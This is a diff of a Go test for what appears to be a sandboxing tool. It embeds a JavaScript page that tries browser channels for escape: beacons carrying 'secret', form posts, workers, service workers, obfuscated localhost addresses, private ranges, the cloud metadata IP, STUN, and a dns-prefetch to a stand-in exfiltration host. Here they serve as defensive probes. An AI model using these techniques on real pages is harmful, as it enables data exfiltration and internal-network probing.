@@ -28,23 +28,35 @@ const loaded = (el, src) => new Promise((r) => { el.onload = el.onerror = r; el.
   await soon(loaded(document.createElement("iframe"), "http://" + at + "/frame"));
   await soon(new Promise((r) => { const w = new WebSocket("ws://" + at + "/socket"); w.onopen = w.onerror = r; }));
   for (const host of ["127.0.0.1", "localhost", "[::ffff:127.0.0.1]", "any.localhost", "0.0.0.0"])
-    await soon(new Promise((r) => { const w = new WebSocket("ws://" + host + ":OWN/own " + host); w.onopen = w.onerror = r; }));
+    await soon(new Promise((r) => {
+      const w = new WebSocket("ws://" + host + ":OWN/own " + host); w.onopen = w.onerror = r;
+    }));
   await soon(new Promise((r) => { const e = new EventSource("http://" + at + "/events"); e.onopen = e.onerror = r; }));
   navigator.sendBeacon("http://" + at + "/beacon", "secret");
   const form = document.createElement("form"), there = document.createElement("iframe");
   there.name = "there"; document.body.append(there);
-  form.method = "POST"; form.action = "http://" + at + "/form"; form.target = "there"; document.body.append(form); form.submit();
-  const style = document.createElement("style"); style.textContent = "@import url(http://" + at + "/style)"; document.head.append(style);
+  form.method = "POST"; form.action = "http://" + at + "/form"; form.target = "there";
+  document.body.append(form); form.submit();
+  const style = document.createElement("style");
+  style.textContent = "@import url(http://" + at + "/style)"; document.head.append(style);
   for (const rel of ["preload", "prefetch"]) {
-    const l = document.createElement("link"); l.rel = rel; l.as = "image"; l.href = "http://" + at + "/" + rel; document.head.append(l);
+    const l = document.createElement("link");
+    l.rel = rel; l.as = "image"; l.href = "http://" + at + "/" + rel; document.head.append(l);
   }
-  const worker = new Worker(URL.createObjectURL(new Blob(["fetch('http://" + at + "/worker', {mode: 'no-cors'}).finally(() => postMessage(1))"])));
+  const worker = new Worker(URL.createObjectURL(new Blob([
+    "fetch('http://" + at + "/worker', {mode: 'no-cors'}).finally(() => postMessage(1))"])));
   await soon(new Promise((r) => { worker.onmessage = r; }));
-  for (const [name, host] of [["localhost", "localhost"], ["short", "127.1"], ["hexadecimal", "0x7f000001"], ["mapped", "[::ffff:127.0.0.1]"], ["alias", "any.localhost"]])
+  for (const [name, host] of [
+    ["localhost", "localhost"], ["short", "127.1"], ["hexadecimal", "0x7f000001"],
+    ["mapped", "[::ffff:127.0.0.1]"], ["alias", "any.localhost"],
+  ])
     await soon(fetch("http://" + host + ":" + at.split(":")[1] + "/" + name, { mode: "no-cors" }));
-  for (const host of ["10.0.0.1", "192.168.0.1", "169.254.169.254", "172.16.0.1", "[fe80::1]"]) soon(fetch("http://" + host + "/latest", { mode: "no-cors" }));
-  const pre = document.createElement("link"); pre.rel = "preconnect"; pre.href = "http://PRE"; document.head.append(pre);
-  const dns = document.createElement("link"); dns.rel = "dns-prefetch"; dns.href = "//secret.exfiltrated.example"; document.head.append(dns);
+  for (const host of ["10.0.0.1", "192.168.0.1", "169.254.169.254", "172.16.0.1", "[fe80::1]"])
+    soon(fetch("http://" + host + "/latest", { mode: "no-cors" }));
+  const pre = document.createElement("link");
+  pre.rel = "preconnect"; pre.href = "http://PRE"; document.head.append(pre);
+  const dns = document.createElement("link");
+  dns.rel = "dns-prefetch"; dns.href = "//secret.exfiltrated.example"; document.head.append(dns);
   navigator.serviceWorker.register("/sw.js").catch(() => {});
   await soon(new Promise((r) => { navigator.serviceWorker.onmessage = r; }));
   const rtc = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + "STUN" }] });
@@ -58,8 +70,14 @@ const loaded = (el, src) => new Promise((r) => { el.onload = el.onerror = r; el.
 </script>`
 
 // serviceWorker outlives its page: it fetches from AT when it is installed.
-const serviceWorker = `self.addEventListener("install", (e) => { self.skipWaiting(); e.waitUntil(fetch("http://AT/serviceworker", {mode: "no-cors"}).catch(() => {})); });
-self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim().then(() => self.clients.matchAll()).then((l) => l.forEach((c) => c.postMessage(1)))));`
+const serviceWorker = `self.addEventListener("install", (e) => {
+  self.skipWaiting();
+  e.waitUntil(fetch("http://AT/serviceworker", {mode: "no-cors"}).catch(() => {}));
+});
+self.addEventListener("activate", (e) => e.waitUntil(
+  self.clients.claim()
+    .then(() => self.clients.matchAll())
+    .then((l) => l.forEach((c) => c.postMessage(1)))));`
 
 // machine counts what reaches a server and a STUN port of this machine.
 type machine struct {
@@ -148,9 +166,9 @@ func (m *machine) fill(text string) string {
 		m.stun.LocalAddr().String(), "PRE", m.pre.Addr().String()).Replace(text)
 }
 
-// TestPagesReachNothingOutside: all attempts of a goal's page against this machine fail. For a page of the
+// TestPages_OfAGoal_ReachNothingOutside: all attempts of a goal's page against this machine fail. For a page of the
 // user they all succeed, except WebSockets to a port of this program.
-func TestPagesReachNothingOutside(t *testing.T) {
+func TestPages_OfAGoal_ReachNothingOutside(t *testing.T) {
 	t.Parallel()
 	self, err := os.Executable()
 	must(t, err)
